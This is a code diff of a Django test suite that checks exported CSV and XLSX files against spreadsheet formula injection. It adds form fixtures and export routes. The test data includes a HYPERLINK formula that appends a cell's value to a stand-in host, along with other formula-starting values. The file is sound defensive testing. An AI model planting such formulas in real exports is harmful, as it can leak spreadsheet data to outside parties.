@@ -14,7 +14,7 @@ from django.test import Client
 from django.utils import timezone
 
 from huiyin.apps.cases.models import Case, CaseContent
-from huiyin.apps.exchange.models import Upload
+from huiyin.apps.exchange.models import AskedField, AskedForm, Upload
 from huiyin.apps.jobs.actions import run_due
 from huiyin.apps.people.access import may_open
 from huiyin.apps.people.models import Person
@@ -36,10 +36,15 @@ STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 FORMULA = '=HYPERLINK("//example.org/"&A1,"看")'
 NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
 FILES = re.compile(r"csv|/table/$|^d/import/.*/(copy|template|list)/$")
-SENT = re.compile(r"^/d/(?:shift/|act/|teams/|tasks/)?list\.|^/d/(?:lists|figures)/|^/duty/|^/admin/log/table/")
+SENT = re.compile(
+    r"^/d/(?:shift/|act/|teams/|tasks/|decisions/)?list\.|^/d/(?:lists|figures|forms|net)/|^/duty/|^/m/|^/p/|^/admin/log/table/"
+)
 """What is asked for by a button and made by a job."""
 TABS = "hand all parked calls tell messages late came up".split()
-BY = {"admin/log/table/": "auditor", "d/import/": "clerk"}
+BY = {
+    "admin/log/table/": "auditor", "d/import/": "clerk", "^d/decisions/": "secretary", "^m/hard/": "leader",
+    "^d/net/": "secretary", "d/forms/": "secretary",
+}  # fmt: skip
 
 
 @pytest.fixture
@@ -52,6 +57,10 @@ def filled_in(world: World) -> Case:
     assert wish.pk
     assert CaseContent.objects.count() == 2
     _with_a_wall(world)
+    asked = AskedForm.objects.create(
+        place=world.town, title=FORMULA, rows="village", why="=1", registered_at=timezone.now()
+    )
+    AskedField.objects.create(form=asked, number=1, title=FORMULA)
     Person.objects.create(name="=1+2", code="@1")
     note("person_added", timezone.now(), person=Person.objects.get(code="@1").pk, data={"why": FORMULA})
     for model in (Post, Unit):
@@ -91,18 +100,22 @@ def exports(world: World, browser: Any) -> dict[str, list[str]]:
         if not FILES.search(pattern):
             continue
         plain = pattern.strip("^$").replace("\\", "").replace("<slug:slug>", "places")
-        plain = plain.replace("<uuid:uid>", str(Upload.objects.get().uid))
+        known: Any = AskedForm if plain.startswith("d/forms/") else Upload
+        plain = plain.replace("<uuid:uid>", str(known.objects.get().uid))
         plain = plain.replace("(?P<name>list|now)", "now").replace("(?P<slug>wish|talk)", "talk")
         plain = plain.replace("(?P<register>[a-z]+)", "venue")
         plain = plain.replace("(?P<slug>[a-z0-9_-]+)", "volunteering" if "figures" in plain else world.profile)
-        forms = [plain.replace("(?P<form>csv|xlsx)", form) for form in ("csv", "xlsx")] if "form" in plain else [plain]
+        forms = (
+            [plain.replace("(?P<form>csv|xlsx|json)", form) for form in ("csv", "xlsx")] if "form" in plain else [plain]
+        )
         town = Place.objects.get(profile="dalu") if plain.startswith("talk") else world.town
         queries = [f"tab={tab}&s=any" for tab in TABS] if plain.startswith("d/list") else [f"town={town.uid}"]
         found[pattern] = [f"/{form}?{query}" for form in forms for query in queries]
     return found
 
 
-def test_no_cell_of_any_file_is_run(world: World, filled_in: Case) -> None:
+def test_no_cell_of_any_file_is_run(world: World, filled_in: Case, settings: Any) -> None:
+    settings.EXPORTS_A_DAY = 500
     clerk = someone(post_of("clerk", world))
     rows = [
         ["户编号", "村", "门牌", "户主", "电话"],
